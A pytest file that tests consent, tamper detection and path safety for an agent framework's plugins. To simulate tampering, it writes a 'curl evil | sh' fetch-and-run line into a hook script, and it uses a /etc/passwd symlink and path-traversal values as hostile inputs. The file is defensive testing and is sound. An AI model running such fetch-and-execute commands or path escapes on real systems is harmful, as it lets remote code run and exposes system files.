"""A plugin's parts are used once a person agreed to each, as it is; a broken one is told, and the others go on."""

import json
from pathlib import Path

import pytest

from loom.ecosystem import EcosystemManager, PluginLoader
from loom.ecosystem.plugin_parts import InstalledPlugin, installed_plugins, plugin_mcp_servers
from loom.ecosystem.plugin_store import agree, install, remove, switch, withdraw
from loom.errors import PluginError
from loom.safety.hooks import HookManager
from loom.safety.profile import Profile
from loom.threads import in_thread
from loom.types.approvals import Decision
from tests.support.agents import assert_catalogued, call, of_type, requests_of
from tests.support.skills import agent_in, profile_in, workspace_in, write_plugin, write_skill

ALL = ("skills", "commands", "agents", "hooks", "mcpServers")


def the_plugin(profile: Profile) -> InstalledPlugin:
    (plugin,) = installed_plugins(profile)
    return plugin


def test_nothing_of_a_plugin_is_used_before_each_part_is_agreed_to(tmp_path: Path) -> None:
    profile = profile_in(tmp_path)
    plugin = install(profile, write_plugin(tmp_path / "source"))
    assert [part.kind for part in plugin.parts] == list(ALL)
    assert {part.state for part in plugin.parts} == {"waiting"}
    assert (plugin.skill_folders, plugin.commands, plugin.agents, plugin.hooks, plugin.servers) == ((), (), (), (), {})
    shown = {part.kind: part.content for part in plugin.parts}
    assert "${CLAUDE_PLUGIN_ROOT}/check.sh" in shown["hooks"]
    assert str(plugin.root) in shown["mcpServers"]
    assert "Say hello to $1." in shown["commands"]
    agree(profile, plugin, ["commands", "agents"])
    now = the_plugin(profile)
    assert [command.name for command in now.commands] == ["helper:greet"]
    assert [(agent.name, agent.tools) for agent in now.agents] == [("helper:critic", ("Read", "Grep"))]
    assert (now.skill_folders, now.hooks, now.servers) == ((), (), {})
    with pytest.raises(PluginError, match="has no outputStyles"):
        agree(profile, plugin, ["outputStyles"])


def test_a_changed_part_is_suspended_until_it_is_agreed_to_again(tmp_path: Path) -> None:
    profile = profile_in(tmp_path)
    agree(profile, install(profile, write_plugin(tmp_path / "source")), ALL)
    root = the_plugin(profile).root
    (root / "check.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    now = the_plugin(profile)
    states = {part.kind: part.state for part in now.parts}
    assert states == {
        "skills": "agreed",
        "commands": "agreed",
        "agents": "agreed",
        "hooks": "changed",
        "mcpServers": "changed",
    }, "what runs programs changes with any file of the plugin"
    assert (now.hooks, now.servers) == ((), {})
    assert "changed since you agreed to its hooks, mcpServers" in now.problems[0]
    agree(profile, now, ["hooks"])
    assert len(the_plugin(profile).hooks) == 1
    (root / "commands/greet.md").write_text("Something else.")
    assert the_plugin(profile).commands == ()


def test_servers_are_handed_on_with_their_place(tmp_path: Path) -> None:
    profile = profile_in(tmp_path)
    plugin = install(profile, write_plugin(tmp_path / "source"))
    assert plugin_mcp_servers(profile) == {}
    agree(profile, plugin, ["mcpServers"])
    assert plugin_mcp_servers(profile) == {
        "plugin_helper_files": {"command": f"{plugin.root}/server", "args": ["--root", str(plugin.root)]}
    }
    switch(profile, "helper", on=False)
    assert plugin_mcp_servers(profile) == {}
    switch(profile, "helper", on=True)
    withdraw(profile, "helper", ["mcpServers"])
    assert plugin_mcp_servers(profile) == {}


def test_a_broken_plugin_keeps_nothing_from_the_others(tmp_path: Path) -> None:
    profile = profile_in(tmp_path)
    agree(profile, install(profile, write_plugin(tmp_path / "source", "good")), ALL)
    plugins = profile.folder / "plugins"
    for name, text in {
        "cut": '{"name": "cut", ',
        "named": '{"name": "../x"}',
        "list": "[]",
        "deep": "[" * 9000,
    }.items():
        (plugins / name / ".claude-plugin").mkdir(parents=True)
        (plugins / name / ".claude-plugin/plugin.json").write_text(text)
    (plugins / "empty").mkdir()
    (plugins / "bytes/.claude-plugin").mkdir(parents=True)
    (plugins / "bytes/.claude-plugin/plugin.json").write_bytes(b"\xff\xfe")
    found = {plugin.name: plugin for plugin in installed_plugins(profile)}
    assert len(found["good"].commands) == 1
    for name in ("cut", "named", "list", "deep", "empty", "bytes"):
        assert len(found[name].problems) == 1, name
        assert found[name].parts == ()


def test_a_broken_part_keeps_nothing_from_the_other_parts(tmp_path: Path) -> None:
    profile, source = profile_in(tmp_path), write_plugin(tmp_path / "source")
    (source / "hooks/hooks.json").write_text('{"hooks": {"PreToolUse": [{"matcher": "(?=x)", "hooks": []')
    (source / ".mcp.json").write_text('{"mcpServers": {"a/b": {}, "ok": {"url": "http://localhost"}}}')
    (source / "commands/broken.md").write_bytes(b"\xff")
    plugin = install(profile, source)
    assert [part.kind for part in plugin.parts] == ["skills", "commands", "agents", "mcpServers"]
    told = " ".join(plugin.problems)
    for word in ("hooks", "a/b", "broken.md"):
        assert word in told


@pytest.mark.parametrize("arguments", [5, True, 1.5, "x", {"a": 1}])
@pytest.mark.parametrize("hooks", [5, True, "x", [7], {"a": 1}])
def test_values_of_wrong_kinds_keep_nothing_from_other_plugins(
    tmp_path: Path, arguments: object, hooks: object
) -> None:
    profile = profile_in(tmp_path)
    agree(profile, install(profile, write_plugin(tmp_path / "source", "good")), ALL)
    odd = {
        "name": "odd",
        "mcpServers": {"s": {"command": "x", "args": arguments}},
        "hooks": {"PreToolUse": [{"matcher": "", "hooks": hooks}]},
    }
    (profile.folder / "plugins/odd/.claude-plugin").mkdir(parents=True)
    (profile.folder / "plugins/odd/.claude-plugin/plugin.json").write_text(json.dumps(odd))
    found = {plugin.name: plugin for plugin in installed_plugins(profile)}
    assert len(found["good"].commands) == 1
    assert any("The hooks of the plugin odd can't be used" in problem for problem in found["odd"].problems)


@pytest.mark.parametrize("matcher", ["(?=x)", "Write.", "[WE]rite", "Write(.*"])
def test_a_matcher_that_is_not_understood_is_no_hook(tmp_path: Path, matcher: str) -> None:
    source = write_plugin(tmp_path / "source")
    hook = {"matcher": matcher, "hooks": [{"type": "command", "command": "true"}]}
    (source / "hooks/hooks.json").write_text(json.dumps({"hooks": {"PreToolUse": [hook]}}))
    plugin = install(profile_in(tmp_path), source)
    assert "hooks" not in [part.kind for part in plugin.parts]
    assert "is not understood" in plugin.problems[0]


def test_parts_are_in_the_usual_files_and_in_those_that_the_manifest_names_and_in_it(tmp_path: Path) -> None:
    source = write_plugin(tmp_path / "source")
    hook = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "inline"}]}]}
    (source / "more.json").write_text(json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "named"}]}]}}))
    (source / "servers.json").write_text(json.dumps({"mcpServers": {"second": {"command": "b"}}}))
    (source / "docs").mkdir()
    (source / "docs/about.md").write_text("---\ndescription: About\n---\nTell about it.")
    manifest = {
        "name": "helper",
        "hooks": ["./more.json", hook, "./hooks/hooks.json"],
        "mcpServers": ["./servers.json", {"third": {"command": "c"}}],
        "commands": {"about": {"source": "./docs/about.md", "description": "About"}},
    }
    (source / ".claude-plugin/plugin.json").write_text(json.dumps(manifest))
    profile = profile_in(tmp_path)
    agree(profile, install(profile, source), ALL)
    plugin = the_plugin(profile)
    assert [each.command[-1].rpartition("/")[2] for each in plugin.hooks] == ["check.sh", "named", "inline"]
    assert list(plugin.servers) == ["files", "second", "third"]
    assert [each.name for each in plugin.commands] == ["helper:greet", "helper:about"]
    assert plugin.problems == ()


def test_a_folder_with_the_usual_parts_is_a_plugin_without_a_manifest_too(tmp_path: Path) -> None:
    source = write_plugin(tmp_path / "source", "my-tools")
    (source / ".claude-plugin/plugin.json").unlink()
    profile = profile_in(tmp_path)
    agree(profile, install(profile, source), ALL)
    assert [each.name for each in the_plugin(profile).commands] == ["my-tools:greet"]
    (tmp_path / "nothing").mkdir()
    with pytest.raises(PluginError, match="is no plugin"):
        install(profile, tmp_path / "nothing")


def test_a_path_out_of_the_plugin_is_not_used(tmp_path: Path) -> None:
    write_skill(tmp_path, "outside")
    source = write_plugin(tmp_path / "source", skills=["../outside"], commands="/etc", mcpServers="../../x.json")
    plugin = install(profile_in(tmp_path), source)
    assert sum("leads out of its folder" in problem for problem in plugin.problems) == 3
    assert all("outside" not in item for part in plugin.parts for item in part.items)


def test_links_and_what_is_too_large_are_not_installed(tmp_path: Path) -> None:
    profile, source = profile_in(tmp_path), write_plugin(tmp_path / "source")
    (source / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(PluginError, match="holds links"):
        install(profile, source)
    (source / "passwd").unlink()
    for number in range(600):
        (source / f"f{number}").write_text("x")
    with pytest.raises(PluginError, match="more than 500 files"):
        install(profile, source)
    with pytest.raises(PluginError, match="no plugin"):
        install(profile, workspace_in(tmp_path))
    with pytest.raises(PluginError, match="no folder"):
        install(profile, tmp_path / "nowhere")
    assert installed_plugins(profile) == ()


def test_a_newer_version_keeps_the_consent_to_what_is_the_same(tmp_path: Path) -> None:
    profile, source = profile_in(tmp_path), write_plugin(tmp_path / "source")
    agree(profile, install(profile, source), ALL)
    (source / "commands/greet.md").write_text("Another text")
    states = {part.kind: part.state for part in install(profile, source).parts}
    assert states["skills"] == "agreed"
    assert states["commands"] == states["hooks"] == "changed"
    remove(profile, "helper")
    assert installed_plugins(profile) == ()
    assert {part.state for part in install(profile, source).parts} == {"waiting"}
    for name in ("nothing", "", "..", "../profile"):
        with pytest.raises(PluginError, match="There is no plugin"):
            remove(profile, name)


def test_a_plugin_of_a_marketplace_is_installed_by_its_name(tmp_path: Path) -> None:
    market = tmp_path / "market"
    write_plugin(market / "plugins", "one")
    (market / ".claude-plugin").mkdir()
    plugins = [
        {"name": "one", "source": "./plugins/one"},
        {"name": "out", "source": "../"},
        {"name": "git", "source": {}},
    ]
    (market / ".claude-plugin/marketplace.json").write_text(json.dumps({"name": "m", "plugins": plugins}))
    assert install(profile_in(tmp_path), market, "one").name == "one"
    for name, why in (("", "Say which"), ("out", "no folder of it"), ("git", "is not in the marketplace")):
        with pytest.raises(PluginError, match=why):
            install(profile_in(tmp_path), market, name)


async def test_a_plugin_in_a_run(tmp_path: Path) -> None:
    profile = profile_in(tmp_path)
    plugin = await in_thread(install, profile, write_plugin(tmp_path / "source"))
    await in_thread(agree, profile, plugin, ALL)
    turns = [
        "Hello Ada.",
        call("activate_skill", name="helper:tidy"),
        call("write_file", path="a", content="b"),
        "Done.",
    ]
    agent = agent_in(tmp_path, *turns, capabilities=["edit", "files"])
    agent.attach_approver(lambda _request: Decision.allow_once())
    session = agent.session()
    await session.start("/helper:greet Ada").wait()
    assert "Say hello to Ada." in requests_of(agent)[0].messages[0].text
    result = await session.start("Tidy").wait()
    assert_catalogued(result.events)
    assert "Tidy up." in of_type(result, "skill.activated")[0]["content"]
    assert "not on my watch" in of_type(result, "tool.vetoed")[0]["message"]
    assert not (workspace_in(tmp_path) / "a").exists()
    await in_thread(withdraw, profile, "helper", ["hooks", "skills"])
    await session.start("Again").wait()
    assert not agent.hooks.has("Stop")
    assert "helper:tidy" not in requests_of(agent)[-1].system.split("<active_skills>")[0]
    await agent.aclose()


async def test_a_plugins_hook_allows_nothing(tmp_path: Path) -> None:
    profile, source = profile_in(tmp_path), write_plugin(tmp_path / "source")
    (source / "check.sh").write_text('#!/bin/sh\necho \'{"decision": "allow"}\'\n')
    plugin = await in_thread(install, profile, source)
    await in_thread(agree, profile, plugin, ["hooks"])
    agent = agent_in(tmp_path, call("write_file", path="a", content="b"), "Done.", capabilities=["edit", "files"])
    result = await agent.run("Go")
    assert of_type(result, "tool.vetoed")[0]["kind"] == "no_approver", "the person would still be asked"
    await agent.aclose()
    manager = HookManager()
    assert not manager.has("PreToolUse")


def test_the_classes_of_0_7_3_read_a_folder_of_plugins(tmp_path: Path) -> None:
    write_plugin(tmp_path / "plugins", "one", description="First")
    write_plugin(tmp_path / "plugins", "two", enabled=False)
    (tmp_path / "plugins/broken").mkdir()
    loader = PluginLoader()
    loader.load_plugins_from_directory(tmp_path / "plugins")
    assert [plugin.name for plugin in loader.get_enabled_plugins()] == ["one"]
    assert loader.enable_plugin("two") is not None
    assert loader.disable_plugin("three") is None
    manager = EcosystemManager()
    manager.load_plugins(tmp_path / "plugins")
    manager.load_user_skills(write_skill(tmp_path / "skills", "mine").parent)
    assert manager.get_system_prompt_additions() == "- mine: How to mine.\n- one:tidy: How to tidy."
    assert manager.disable_plugin("one")
    assert manager.get_system_prompt_additions() == "- mine: How to mine."
